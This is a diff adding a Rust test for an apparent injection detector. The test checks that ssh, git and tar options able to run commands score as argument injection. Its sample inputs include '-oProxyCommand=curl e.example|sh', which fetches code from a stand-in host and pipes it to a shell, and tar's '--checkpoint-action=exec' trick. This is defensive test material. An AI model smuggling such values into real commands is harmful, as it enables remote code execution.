@@ -826,3 +826,24 @@ fn a_bare_word_is_not_a_command() {
         assert!(conf(v, FieldKind::QueryValue, Level::Balanced) >= 60, "{v:?}: {}", conf(v, FieldKind::QueryValue, Level::Balanced));
     }
 }
+
+#[test]
+fn options_that_run_commands_are_argument_injection() {
+    // Values an application passes as an argument of ssh, git or tar, written for this rule.
+    for v in [
+        "-oProxyCommand=curl e.example|sh",
+        "-o ProxyCommand=id",
+        "x -oLocalCommand=touch${IFS}/tmp/p",
+        "--upload-pack=touch /tmp/pwn",
+        "--receive-pack='id'",
+        "--checkpoint=1 --checkpoint-action=exec=sh shell.sh",
+        "--use-compress-program=sh",
+        "--to-command=id",
+    ] {
+        assert!(q(v) >= 80, "{v}: {}", q(v));
+    }
+    // The directive as configuration text, options that run nothing.
+    for v in ["ProxyCommand ssh -W %h:%p bastion", "--upload", "--output-dir", "-o", "--checkpoint=10"] {
+        assert!(q(v) < 60, "{v}: {}", q(v));
+    }
+}
